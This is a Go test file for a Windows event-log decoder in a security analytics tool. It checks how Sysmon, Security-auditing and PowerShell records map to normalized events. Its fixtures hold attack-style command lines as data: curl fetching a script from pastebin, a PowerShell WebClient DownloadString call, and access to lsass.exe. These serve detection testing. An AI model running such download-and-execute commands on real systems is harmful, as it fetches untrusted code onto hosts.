package windows_test

import (
	"errors"
	"fmt"
	"net/netip"
	"os"
	"reflect"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/vegress/vegress/analytics/endpoint"
	"github.com/vegress/vegress/analytics/endpoint/windows"
	"github.com/vegress/vegress/event"
	"github.com/vegress/vegress/event/eventtest"
)

var (
	utcTime = time.Date(2026, 11, 2, 9, 15, 1, 118e6, time.UTC)
	joe     = event.User{Domain: "CORP", Name: "joe"}
	curl    = event.Process{Name: "curl.exe", Path: `C:\Windows\System32\curl.exe`, PID: 7232, UID: "5aa13a44-0b18-68fd-6336-000000004002"}
	device  = event.Device{Hostname: computer, IP: netip.MustParseAddr("10.1.2.3")}
)

// sysmon is a record of Sysmon by curl.exe.
func sysmon(id string, more ...datum) source {
	return source{sysmonChannel, sysmonProvider, id, append([]datum{
		{"RuleName", "-"},
		{"UtcTime", "2026-11-02 09:15:01.118"},
		{"ProcessGuid", "{5aa13a44-0b18-68fd-6336-000000004002}"},
		{"ProcessId", "7232"},
		{"Image", `C:\Windows\System32\curl.exe`},
		{"User", `CORP\joe`},
	}, more...)}
}

func security(id string, more ...datum) source {
	return source{"Security", "Microsoft-Windows-Security-Auditing", id, more}
}

func connection(initiated string) source {
	return sysmon(
		"3", datum{"Protocol", "tcp"}, datum{"Initiated", initiated}, datum{"SourceIsIpv6", "false"}, datum{"SourceIp", "10.1.2.3"},
		datum{"SourceHostname", "-"}, datum{"SourcePort", "49812"}, datum{"SourcePortName", "-"}, datum{"DestinationIsIpv6", "false"},
		datum{"DestinationIp", "203.0.113.7"}, datum{"DestinationHostname", "-"}, datum{"DestinationPort", "443"}, datum{"DestinationPortName", "https"},
	)
}

func query(status, results string) source {
	return sysmon("22", datum{"QueryName", "pastebin.com"}, datum{"QueryStatus", status}, datum{"QueryResults", results})
}

// with gives curl with its command line and parent.
func with(p event.Process, cmdLine string, parent *event.Process) event.Process {
	p.CmdLine, p.Parent = cmdLine, parent
	return p
}

func by(class event.Class, activity event.Activity) event.Event {
	return event.Event{Class: class, Activity: activity, Device: event.Device{Hostname: computer}, User: joe, Process: curl}
}

func change(ev event.Event, set func(ev *event.Event)) event.Event {
	set(&ev)
	return ev
}

// meanings says what typed members the records have, whatever ships them. Time
// is that of Sysmon's records.
var meanings = []struct {
	name string
	source
	want event.Event
}{
	{
		"process", sysmon(
			"1", datum{"FileVersion", "8.9.1"}, datum{"Description", "The curl executable"}, datum{"Company", "curl, https://curl.se/"}, datum{"OriginalFileName", "curl.exe"},
			datum{"CommandLine", `curl "https://pastebin.com/raw/x?a=1&b=<2>" -o C:\Users\joe\x.ps1`}, datum{"CurrentDirectory", `C:\Users\joe\`}, datum{"LogonId", "0x529ae3"},
			datum{"IntegrityLevel", "High"}, datum{"Hashes", "SHA1=0A,MD5=0B,SHA256=0C,IMPHASH=0D"}, datum{"ParentProcessGuid", "{5aa13a44-08b2-68fd-2136-000000004002}"},
			datum{"ParentProcessId", "3204"}, datum{"ParentImage", `C:\Windows\System32\cmd.exe`}, datum{"ParentCommandLine", `"C:\Windows\system32\cmd.exe" /c x.bat`}, datum{"ParentUser", `CORP\joe`},
		),
		change(by(event.ProcessActivity, event.ProcessLaunch), func(ev *event.Event) {
			ev.Session = "0x529ae3"
			ev.Process = with(curl, `curl "https://pastebin.com/raw/x?a=1&b=<2>" -o C:\Users\joe\x.ps1`, &event.Process{
				Name: "cmd.exe", Path: `C:\Windows\System32\cmd.exe`, PID: 3204, UID: "5aa13a44-08b2-68fd-2136-000000004002", CmdLine: `"C:\Windows\system32\cmd.exe" /c x.bat`,
			})
		}),
	},
	{"connection", connection("true"), change(by(event.NetworkActivity, event.NetworkOpen), func(ev *event.Event) {
		ev.Device, ev.Direction, ev.Protocol = device, event.DirectionOutbound, 6
		ev.Src = event.Endpoint{IP: netip.MustParseAddr("10.1.2.3"), Port: 49812}
		ev.Dst = event.Endpoint{IP: netip.MustParseAddr("203.0.113.7"), Port: 443}
	})},
	{"connection from outside", connection("false"), change(by(event.NetworkActivity, event.NetworkOpen), func(ev *event.Event) {
		ev.Device.IP, ev.Direction, ev.Protocol = netip.MustParseAddr("203.0.113.7"), event.DirectionInbound, 6
		ev.Src = event.Endpoint{IP: netip.MustParseAddr("10.1.2.3"), Port: 49812}
		ev.Dst = event.Endpoint{IP: netip.MustParseAddr("203.0.113.7"), Port: 443}
	})},
	{"end", sysmon("5"), by(event.ProcessActivity, event.ProcessTerminate)},
	{"query", query("0", "type:  5 pastebin.net;::ffff:104.20.3.235;2606:4700:10::6814:3eb;"), change(by(event.DNSActivity, event.DNSResponse), func(ev *event.Event) {
		ev.DNS = event.DNS{Query: "pastebin.com", RCode: "NOERROR", Answers: []netip.Addr{netip.MustParseAddr("104.20.3.235"), netip.MustParseAddr("2606:4700:10::6814:3eb")}}
	})},
	{"query without answer", query("9003", "-"), change(by(event.DNSActivity, event.DNSResponse), func(ev *event.Event) {
		ev.DNS = event.DNS{Query: "pastebin.com", RCode: "NXDOMAIN"}
	})},
	{"file", sysmon("11", datum{"TargetFilename", `C:\Users\joe\x.ps1`}, datum{"CreationUtcTime", "2026-11-02 09:15:01.118"}), change(by(event.FileActivity, event.FileCreate), func(ev *event.Event) {
		ev.File = event.File{Name: "x.ps1", Path: `C:\Users\joe\x.ps1`}
	})},
	{"file blocked", sysmon("27", datum{"TargetFilename", `C:\x.exe`}), change(by(event.FileActivity, event.FileCreate), func(ev *event.Event) {
		ev.Status, ev.File = event.StatusFailure, event.File{Name: "x.exe", Path: `C:\x.exe`}
	})},
	{"file deleted", sysmon("23", datum{"TargetFilename", `C:\x.exe`}, datum{"Archived", "true"}), change(by(event.FileActivity, event.FileDelete), func(ev *event.Event) {
		ev.File = event.File{Name: "x.exe", Path: `C:\x.exe`}
	})},
	{"registry", sysmon("13", datum{"EventType", "SetValue"}, datum{"TargetObject", `HKLM\Run\x`}, datum{"Details", `C:\x.exe`}), by(event.BaseEvent, 0)},
	{"image", sysmon("7", datum{"ImageLoaded", `C:\Windows\System32\x.dll`}, datum{"Signed", "false"}, datum{"Signature", "-"}, datum{"SignatureStatus", "Unavailable"}), by(event.BaseEvent, 0)},
	{"access", source{sysmonChannel, sysmonProvider, "10", []datum{
		{"UtcTime", "2026-11-02 09:15:01.118"},
		{"SourceProcessGUID", "{5aa13a44-0b18-68fd-6336-000000004002}"},
		{"SourceProcessId", "7232"},
		{"SourceImage", `C:\Windows\System32\curl.exe`},
		{"TargetImage", `C:\Windows\System32\lsass.exe`},
		{"SourceUser", `CORP\joe`},
	}}, change(by(event.BaseEvent, 0), func(ev *event.Event) { ev.User = event.User{} })},

	{"gone", source{sysmonChannel, sysmonProvider, "22", []datum{
		{"UtcTime", "2026-11-02 09:15:01.118"},
		{"ProcessGuid", "{00000000-0000-0000-0000-000000000000}"},
		{"ProcessId", "7232"},
		{"QueryName", "pastebin.com"},
		{"QueryStatus", "1460"},
		{"Image", "<unknown process>"},
	}}, change(by(event.DNSActivity, event.DNSResponse), func(ev *event.Event) {
		ev.User, ev.Process, ev.DNS.Query = event.User{}, event.Process{PID: 7232}, "pastebin.com"
	})},

	{"created", security(
		"4688", datum{"SubjectUserSid", "S-1-5-21-1-500"}, datum{"SubjectUserName", "joe"}, datum{"SubjectDomainName", "CORP"}, datum{"SubjectLogonId", "0xc61d9"},
		datum{"NewProcessId", "0x1c40"}, datum{"NewProcessName", `C:\Windows\System32\curl.exe`}, datum{"TokenElevationType", "%%1936"}, datum{"ProcessId", "0xc84"},
		datum{"CommandLine", "curl https://pastebin.com"}, datum{"TargetUserSid", "S-1-0-0"}, datum{"TargetUserName", "-"}, datum{"TargetDomainName", "-"}, datum{"TargetLogonId", "0x0"},
		datum{"ParentProcessName", `C:\Windows\System32\cmd.exe`}, datum{"MandatoryLabel", "S-1-16-12288"},
	), event.Event{
		Class: event.ProcessActivity, Activity: event.ProcessLaunch, Device: event.Device{Hostname: computer}, Session: "0xc61d9",
		User: event.User{Name: "joe", Domain: "CORP", UID: "S-1-5-21-1-500"},
		Process: event.Process{
			Name: "curl.exe", Path: `C:\Windows\System32\curl.exe`, PID: 7232, CmdLine: "curl https://pastebin.com",
			Parent: &event.Process{Name: "cmd.exe", Path: `C:\Windows\System32\cmd.exe`, PID: 3204},
		},
	}},
	{"created as another", security(
		"4688", datum{"SubjectUserSid", "S-1-5-18"}, datum{"SubjectUserName", "WS-014$"}, datum{"SubjectDomainName", "CORP"}, datum{"SubjectLogonId", "0x3e7"},
		datum{"NewProcessId", "0x1c40"}, datum{"NewProcessName", `C:\Windows\System32\curl.exe`}, datum{"ProcessId", "0xc84"}, datum{"CommandLine", ""},
		datum{"TargetUserSid", "S-1-0-0"}, datum{"TargetUserName", "joe"}, datum{"TargetDomainName", "CORP"}, datum{"TargetLogonId", "0x99"},
	), event.Event{
		Class: event.ProcessActivity, Activity: event.ProcessLaunch, Device: event.Device{Hostname: computer}, Session: "0x99", User: joe,
		Process: event.Process{Name: "curl.exe", Path: `C:\Windows\System32\curl.exe`, PID: 7232, Parent: &event.Process{PID: 3204}},
	}},
	{"exited", security("4689", datum{"SubjectUserName", "joe"}, datum{"SubjectDomainName", "CORP"}, datum{"ProcessId", "0x1c40"}, datum{"ProcessName", `C:\Windows\System32\curl.exe`}), event.Event{
		Class: event.ProcessActivity, Activity: event.ProcessTerminate, Device: event.Device{Hostname: computer}, User: joe,
		Process: event.Process{Name: "curl.exe", Path: `C:\Windows\System32\curl.exe`, PID: 7232},
	}},
	{"allowed", security(
		"5156", datum{"ProcessID", "7232"}, datum{"Application", `\device\harddiskvolume2\windows\system32\curl.exe`}, datum{"Direction", "%%14593"}, datum{"SourceAddress", "10.1.2.3"},
		datum{"SourcePort", "49812"}, datum{"DestAddress", "203.0.113.7"}, datum{"DestPort", "443"}, datum{"Protocol", "6"}, datum{"LayerName", "%%14611"},
	), event.Event{
		Class: event.NetworkActivity, Activity: event.NetworkOpen, Device: device, Direction: event.DirectionOutbound, Protocol: 6,
		Src:     event.Endpoint{IP: netip.MustParseAddr("10.1.2.3"), Port: 49812},
		Dst:     event.Endpoint{IP: netip.MustParseAddr("203.0.113.7"), Port: 443},
		Process: event.Process{Name: "curl.exe", Path: `\device\harddiskvolume2\windows\system32\curl.exe`, PID: 7232},
	}},
	{"blocked", security(
		"5157", datum{"ProcessID", "4"}, datum{"Application", "System"}, datum{"Direction", "%%14592"}, datum{"SourceAddress", "ff02::1:2"},
		datum{"SourcePort", "547"}, datum{"DestAddress", "fe80::1"}, datum{"DestPort", "546"}, datum{"Protocol", "17"},
	), event.Event{
		Class: event.NetworkActivity, Activity: event.NetworkRefuse, Device: event.Device{Hostname: computer}, Direction: event.DirectionInbound, Protocol: 17,
		Src:     event.Endpoint{IP: netip.MustParseAddr("fe80::1"), Port: 546},
		Dst:     event.Endpoint{IP: netip.MustParseAddr("ff02::1:2"), Port: 547},
		Process: event.Process{Name: "System", PID: 4},
	}},
	{"login refused", security(
		"4625", datum{"SubjectUserSid", "S-1-0-0"}, datum{"SubjectUserName", "-"}, datum{"TargetUserSid", "S-1-0-0"}, datum{"TargetUserName", "joe"}, datum{"TargetDomainName", "CORP"},
		datum{"Status", "0xc000006d"}, datum{"LogonType", "3"}, datum{"WorkstationName", "KALI"}, datum{"ProcessId", "0x0"}, datum{"ProcessName", "-"}, datum{"IpAddress", "10.9.9.9"}, datum{"IpPort", "40112"},
	), event.Event{
		Class: event.Authentication, Activity: event.AuthLogon, Status: event.StatusFailure, Severity: event.SeverityMedium, Device: event.Device{Hostname: computer}, User: joe,
		Src: event.Endpoint{IP: netip.MustParseAddr("10.9.9.9"), Port: 40112, Hostname: "KALI"}, Dst: event.Endpoint{Hostname: computer},
	}},
	{"script", source{"Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", "4104", []datum{
		{"MessageNumber", "1"},
		{"MessageTotal", "1"},
		{"ScriptBlockText", "(New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/x')\r\n# ä"},
		{"ScriptBlockId", "3f6e0d9f-0001"},
		{"Path", ""},
	}}, event.Event{
		Class: event.BaseEvent, Device: event.Device{Hostname: computer}, User: event.User{UID: "S-1-5-18"}, Process: event.Process{PID: 3308},
	}},
}

// TestMeaning: a record gives the same event in every shape, and its fields
// have the event log's names.
func TestMeaning(t *testing.T) {
	d := windows.New()
	for _, m := range meanings {
		for shape, write := range writers {
			t.Run(m.name+"/"+shape, func(t *testing.T) {
				record := write(m.source)
				got := decode(t, d, record)
				checkFields(t, m.source, got.Fields)
				want := m.want
				want.LogName, want.Records = m.channel, 1
				if want.Severity == 0 {
					want.Severity = event.SeverityInformational
				}
				if want.Time = got.Time; m.channel == sysmonChannel {
					want.Time = utcTime
				}
				if got.Time.Sub(utcTime).Abs() > 3*time.Millisecond {
					t.Errorf("time %v", got.Time)
				}
				switch want.Class {
				case event.BaseEvent:
					want.Message, want.Src.Hostname = got.Message, computer
				case event.ProcessActivity, event.FileActivity, event.DNSActivity:
					want.Src.Hostname = computer
				}
				checkEvent(t, got, want)
			})
		}
	}
}

// checkEvent compares all but the fields and the record itself.
func checkEvent(t *testing.T, got, want event.Event) {
	t.Helper()
	got.Raw, want.Raw, got.Fields, want.Fields = "", "", nil, nil
	if len(got.DNS.Answers) == 0 {
		got.DNS.Answers = nil
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got  %+v %+v\nwant %+v %+v", got, got.Process.Parent, want, want.Process.Parent)
	}
}

func checkFields(t *testing.T, s source, fields []event.Field) {
	t.Helper()
	want := append([]datum{{"EventID", s.id}, {"Channel", s.channel}, {"Computer", computer}, {"Provider_Name", s.provider}}, s.data...)
	for _, w := range want {
		i := slices.IndexFunc(fields, func(f event.Field) bool { return f.ID.Name() == w.name && f.Value == w.value })
		if i < 0 {
			t.Errorf("no field %s with %q", w.name, w.value)
		}
	}
}

// TestElastic: what Elastic's Sysmon module moves to ECS is found there.
func TestElastic(t *testing.T) {
	record := `{"@timestamp":"2026-11-02T09:15:01.118Z","event":{"code":"3","provider":"Microsoft-Windows-Sysmon"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","computer_name":"ws-014.corp.example","event_id":3},` +
		`"process":{"entity_id":"{5aa13a44-0b18-68fd-6336-000000004002}","pid":7232,"executable":"C:\\Windows\\System32\\curl.exe","name":"curl.exe","hash":{"sha256":"0c","md5":"0b"},"pe":{"imphash":"0d","original_file_name":"curl.exe"}},` +
		`"source":{"ip":"10.1.2.3","port":49812},"destination":{"ip":"203.0.113.7","port":443,"domain":"pastebin.com"},"network":{"transport":"tcp","direction":"egress"},"user":{"name":"joe","domain":"CORP"},"related":{"ip":["10.1.2.3","203.0.113.7"]}}`
	got := decode(t, windows.New(), record)
	want := meanings[1].want
	want.Severity, want.LogName, want.Time, want.Records = event.SeverityInformational, sysmonChannel, utcTime, 1
	want.Dst.Hostname = "pastebin.com"
	checkEvent(t, got, want)
	var fields []string
	for _, f := range got.Fields {
		fields = append(fields, f.ID.Name()+"="+f.Value)
	}
	for _, w := range []string{
		"EventID=3", `Image=C:\Windows\System32\curl.exe`, "Initiated=true", `User=CORP\joe`, "DestinationPort=443", "DestinationHostname=pastebin.com",
		"Hashes=MD5=0B", "Hashes=SHA256=0C", "Hashes=IMPHASH=0D", "OriginalFileName=curl.exe", "related.ip=203.0.113.7", "Protocol=tcp",
	} {
		if !slices.Contains(fields, w) {
			t.Errorf("no %s in %q", w, fields)
		}
	}
}

func TestElasticQuery(t *testing.T) {
	got := decode(t, windows.New(), `{"@timestamp":"2026-11-02T09:15:01.118Z","event":{"code":"22"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational"},"host":{"name":"ws-014"},`+
		`"process":{"executable":"C:\\x.exe","pid":12},"dns":{"question":{"name":"pastebin.com"},"resolved_ip":["104.20.3.235","104.20.4.235"]},"sysmon":{"dns":{"status":"SUCCESS"}},"file":{"path":"C:\\y"}}`)
	if fmt.Sprint(got.DNS) != "{pastebin.com  NOERROR [104.20.3.235 104.20.4.235]}" || got.Device.Hostname != "ws-014" || got.Process.PID != 12 {
		t.Errorf("%+v", got)
	}
}

// TestSigner: when a process loads its own program, Sysmon says who signed it.
func TestSigner(t *testing.T) {
	tests := []struct{ signed, signature, status, want string }{
		{"true", "Microsoft Windows", "Valid", "signed by Microsoft Windows"},
		{"false", "-", "Unavailable", "unsigned by "},
		{"true", "Someone", "Expired", "Expired by Someone"},
		{"", "", "", " by "},
	}
	for _, tt := range tests {
		s := sysmon("7", datum{"ImageLoaded", `c:\windows\System32\CURL.exe`}, datum{"Signed", tt.signed}, datum{"Signature", tt.signature}, datum{"SignatureStatus", tt.status})
		ev := decode(t, windows.New(), writers["evtx"](s))
		signature, _ := ev.Field(endpoint.Signature)
		signer, _ := ev.Field(endpoint.Signer)
		if got := signature.Value + " by " + signer.Value; got != tt.want {
			t.Errorf("got %q, want %q", got, tt.want)
		}
	}
}

func TestOtherRecords(t *testing.T) {
	tests := []struct{ name, record, log, want string }{
		{
			"user data", `{"Event":{"System":{"EventID":21,"Channel":"Microsoft-Windows-TerminalServices-LocalSessionManager/Operational"},"UserData":{"#attributes":{"xmlns":"x"},"EventXML":{"#attributes":{"xmlns":"y"},"Address":"10.0.0.9"}}}}`,
			"Microsoft-Windows-TerminalServices-LocalSessionManager/Operational", "EventID=21 Channel=Microsoft-Windows-TerminalServices-LocalSessionManager/Operational Address=10.0.0.9",
		},
		{"unnamed data", `{"Event":{"System":{"EventID":{"#text":400,"#attributes":{"Qualifiers":0}},"Channel":"Windows PowerShell","Security":null},"EventData":{"Data":["a","HostApplication=powershell"]}}}`, "Windows PowerShell", "EventID=400 EventID_Qualifiers=0 Channel=Windows PowerShell Security= Data=a Data=HostApplication=powershell"},
		{"numbered data", `{"winlog":{"channel":"Windows PowerShell","event_id":400,"event_data":{"param1":"a","param2":"b"}}}`, "Windows PowerShell", "Channel=Windows PowerShell EventID=400 Data=a Data=b"},
		{"no channel", `{"EventID":"4624","SourceName":"Microsoft-Windows-Security-Auditing"}`, "Security", "EventID=4624 Provider_Name=Microsoft-Windows-Security-Auditing"},
		{"hidden by NXLog", `{"EventType":"INFO","EventID":13,"Channel":"` + sysmonChannel + `","Message":"Registry value set:\r\nEventType: SetValue\r\nx"}`, sysmonChannel, "EventType=SetValue EventID=13 Channel=" + sysmonChannel + " Message=Registry value set:\r\nEventType: SetValue\r\nx"},
		{"twice", `{"EventID":1,"Channel":"x","Image":"a","Image":"b"}`, "x", "EventID=1 Channel=x Image=a Image=b"},
		{"name of its own", `{"EventID":1,"Channel":"x","Computer":"a","Hostname":"b"}`, "x", "EventID=1 Channel=x Computer=a Hostname=b"},
		{
			"a datum with a shipper's name", `{"Event":{"System":{"EventID":1,"Channel":"x","TimeCreated":{"#attributes":{"SystemTime":"2026-11-02T09:15:01Z"}},"Security":null},"EventData":{"UserID":"joe"}}}`,
			"x", "EventID=1 Channel=x TimeCreated_SystemTime=2026-11-02T09:15:01Z Security= UserID=joe",
		},
		{"string that is no document", `{"EventID":1,"Channel":"x","EventData":"<Data"}`, "x", "EventID=1 Channel=x EventData=<Data"},
		{"document in a value", `{"EventID":1,"Channel":"x","CommandLine":"<Event><EventData><Data Name='Image'>y</Data></EventData></Event>"}`, "x", "EventID=1 Channel=x CommandLine=<Event><EventData><Data Name='Image'>y</Data></EventData></Event>"},
		{"bytes", "{\"EventID\":1,\"a\\u0000b\":\"c\\u0000\xff\"}", "", "EventID=1 a\x00b=c\x00\xff"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ev := decode(t, windows.New(), tt.record)
			var fields []string
			for _, f := range ev.Fields {
				fields = append(fields, f.ID.Name()+"="+f.Value)
			}
			if got := strings.Join(fields, " "); got != tt.want || ev.LogName != tt.log {
				t.Errorf("log %q, fields %q\nwant %q, %q", ev.LogName, got, tt.log, tt.want)
			}
		})
	}
}

func TestRefused(t *testing.T) {
	tests := []struct {
		name, record string
		want         error
	}{
		{"empty", "", endpoint.ErrNotJSON},
		{"list", "[]", endpoint.ErrNotJSON},
		{"XML", "<Event>", endpoint.ErrNotXML},
		{"other", `{"eventName":"DescribeInstances"}`, windows.ErrNoEventID},
		{"other XML", `<Event><System/></Event>`, windows.ErrNoEventID},
		{"deep", strings.Repeat(`{"a":`, 40) + "1" + strings.Repeat("}", 40), endpoint.ErrTooDeep},
		{"long", `{"EventID":"` + strings.Repeat("1", endpoint.MaxRecord) + `"}`, endpoint.ErrTooLong},
	}
	d := windows.New()
	for _, tt := range tests {
		err := d.Decode(endpoint.Record{Text: tt.record}, func(*event.Event) { t.Errorf("%s: an event", tt.name) })
		if !errors.Is(err, tt.want) {
			t.Errorf("%s: %v, want %v", tt.name, err, tt.want)
		}
	}
	if ev := decode(t, d, `{"EventID":1,"Channel":"x"}`); len(ev.Fields) != 2 {
		t.Errorf("after refusals: %+v", ev)
	}
	d.Rest(time.Time{}, func(*event.Event) { t.Error("something waited") })
}

// TestWide: what is beyond the bound of fields stands in Raw only.
func TestWide(t *testing.T) {
	for _, record := range []string{
		`{"EventID":1,"a":[` + strings.Repeat("1,", 5000) + `1]}`,
		`<E><EventID>1</EventID>` + strings.Repeat("<a>1</a>", 5000) + `</E>`,
	} {
		if ev := decode(t, windows.New(), record); len(ev.Fields) != endpoint.MaxFields || ev.Raw != record {
			t.Errorf("%d fields", len(ev.Fields))
		}
	}
}

// TestHost: a record that names no machine is of the one that the way in
// knows.
func TestHost(t *testing.T) {
	for record, want := range map[string]string{`{"EventID":1}`: "peer", `{"EventID":1,"Computer":"ws"}`: "ws"} {
		err := windows.New().Decode(endpoint.Record{Text: record, Host: "peer"}, func(ev *event.Event) {
			if ev.Device.Hostname != want {
				t.Errorf("%s: host %q, want %q", record, ev.Device.Hostname, want)
			}
		})
		if err != nil {
			t.Error(err)
		}
	}
}

func TestSeverity(t *testing.T) {
	for record, want := range map[string]event.Severity{
		`{"EventID":1,"Level":1}`:                     event.SeverityCritical,
		`{"EventID":1,"EventLevel":"2"}`:              event.SeverityHigh,
		`{"EventID":1,"log":{"level":"warning"}}`:     event.SeverityMedium,
		`{"EventID":1,"log":{"level":"information"}}`: event.SeverityInformational,
	} {
		if ev := decode(t, windows.New(), record); ev.Severity != want {
			t.Errorf("%s: %v, want %v", record, ev.Severity, want)
		}
	}
}

// TestOldNXLog: the process of PowerShell is in a field that other channels
// have for something else.
func TestOldNXLog(t *testing.T) {
	ev := decode(t, windows.New(), `{"EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","ProcessID":77,"UserID":"S-1-5-18"}`)
	if ev.Process.PID != 77 || ev.User.UID != "S-1-5-18" {
		t.Errorf("%+v", ev)
	}
}

func TestTimes(t *testing.T) {
	const none = "0001-01-01T00:00:00Z"
	tests := []struct{ members, want, original string }{
		{`"UtcTime":"2026-11-02 09:15:01.118","TimeCreated":"2026-11-02T04:15:01.118Z"`, "2026-11-02T09:15:01.118Z", ""},
		{`"UtcTime":"-","EventTime":"2026-11-02 09:15:01"`, "2026-11-02T09:15:01Z", ""},
		{`"TimeCreated":"2026-11-02 10:15:01.5 +0100"`, "2026-11-02T09:15:01.5Z", ""},
		{`"TimeGenerated":"2026-11-02T09:15:01.12+00:00"`, "2026-11-02T09:15:01.12Z", ""},
		{`"TimeGenerated":"11/2/2026, 9:15:01 AM"`, none, "11/2/2026, 9:15:01 AM"},
		{`"x":1`, none, ""},
	}
	for _, tt := range tests {
		ev := decode(t, windows.New(), `{"EventID":1,`+tt.members+`}`)
		if got := ev.Time.Format(time.RFC3339Nano); got != tt.want || ev.OriginalTime != tt.original {
			t.Errorf("%s: %s %q, want %s %q", tt.members, got, ev.OriginalTime, tt.want, tt.original)
		}
	}
}

func TestAllocations(t *testing.T) {
	d := windows.New()
	for shape, most := range map[string]float64{"xml": 4, "nxlog": 16} {
		record := endpoint.Record{Text: writers[shape](meanings[0].source)}
		tell := func(*event.Event) {}
		n := testing.AllocsPerRun(100, func() {
			if err := d.Decode(record, tell); err != nil {
				t.Error(err)
			}
		})
		if n > most {
			t.Errorf("%s: %v allocations, want at most %v", shape, n, most)
		}
	}
}

// FuzzDecode: whatever comes is refused or becomes an event that OCSF takes.
func FuzzDecode(f *testing.F) {
	for _, m := range meanings {
		for _, write := range writers {
			f.Add(write(m.source))
		}
	}
	f.Add("{\"EventID\":3,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"SourceIp\":\"\\u0000\xff\",\"EventID\":22,\"ProcessId\":\"-1\",\"DestinationPort\":1e9}")
	var schemas *eventtest.Validator
	if os.Getenv("VEGRESS_OCSF") != "" {
		schemas = eventtest.New(f)
	}
	d := windows.New()
	f.Fuzz(func(t *testing.T, record string) {
		_ = d.Decode(endpoint.Record{Text: record}, func(ev *event.Event) {
			if len(ev.Fields) > len(record) || ev.Raw != record {
				t.Errorf("%d fields of %d bytes", len(ev.Fields), len(record))
			}
			ev.UID = "u"
			line := ev.AppendJSON(nil)
			if schemas == nil {
				return
			}
			if err := schemas.Validate(line); err != nil {
				t.Error(err)
			}
		})
	})
}

// TestLongNames: the members of an object with a long name are not given all of
// it each.
func TestLongNames(t *testing.T) {
	const long, members = 100 << 10, 2000
	text := `{"Event":{"System":{"EventID":1,"Channel":"x","` + strings.Repeat("n", long) + `":{` + strings.Repeat(`"m":1,`, members) + `"m":1}}}}`
	fields := 0
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	err := windows.New().Decode(endpoint.Record{Text: text}, func(ev *event.Event) { fields = len(ev.Fields) })
	runtime.ReadMemStats(&after)
	if n := after.TotalAlloc - before.TotalAlloc; err != nil || fields < members || n > 100*long {
		t.Errorf("%v, %d fields, %d bytes for names of %d", err, fields, n, long)
	}
}

// TestManyAnswers: a query has no more answers than it may.
func TestManyAnswers(t *testing.T) {
	text := `{"Event":{"System":{"EventID":22,"Channel":"Microsoft-Windows-Sysmon/Operational","Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}}},` +
		`"EventData":{"QueryName":"x.example","QueryStatus":"0","QueryResults":"` + strings.Repeat("192.0.2.1;", 1000) + `"}}}`
	answers := 0
	err := windows.New().Decode(endpoint.Record{Text: text}, func(ev *event.Event) { answers = len(ev.DNS.Answers) })
	if err != nil || answers != 64 {
		t.Errorf("%v, %d answers", err, answers)
	}
}
